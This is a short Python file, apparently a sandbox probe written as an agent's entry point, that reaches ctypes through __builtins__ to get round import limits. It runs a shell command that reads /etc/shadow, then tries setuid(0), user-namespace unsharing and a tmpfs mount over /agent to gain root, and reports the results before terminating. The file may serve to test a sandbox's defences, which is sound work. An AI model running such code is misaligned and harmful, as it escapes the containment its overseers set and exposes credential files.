"ctypes through __builtins__: libc.system() runs a shell; setuid(0), unshare(CLONE_NEWUSER) and mount() try to gain root."

import json

imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
ctypes = imp("ctypes")


def agent_main(problem):
    libc = ctypes.CDLL(None, use_errno=True)
    r = {}
    r["system"] = libc.system(b"id -u > /tmp/who; cat /etc/shadow >> /tmp/who 2>&1")
    try:
        r["system saw"] = open("/tmp/who").read()[-500:]
    except OSError as e:
        r["system saw"] = type(e).__name__
    for name, call in [
        ("setuid0", lambda: libc.setuid(0)),
        ("unshare_user", lambda: libc.unshare(1 << 28)),
        ("mount_tmpfs", lambda: libc.mount(b"none", b"/agent", b"tmpfs", 0, None)),
    ]:
        rc = call()
        r[name] = [rc, ctypes.get_errno()]
    return [
        {
            "think": json.dumps(r),
            "tool_call": [{"name": "terminate", "parameters": {"status": "failure"}, "result": ""}],
        }
    ]
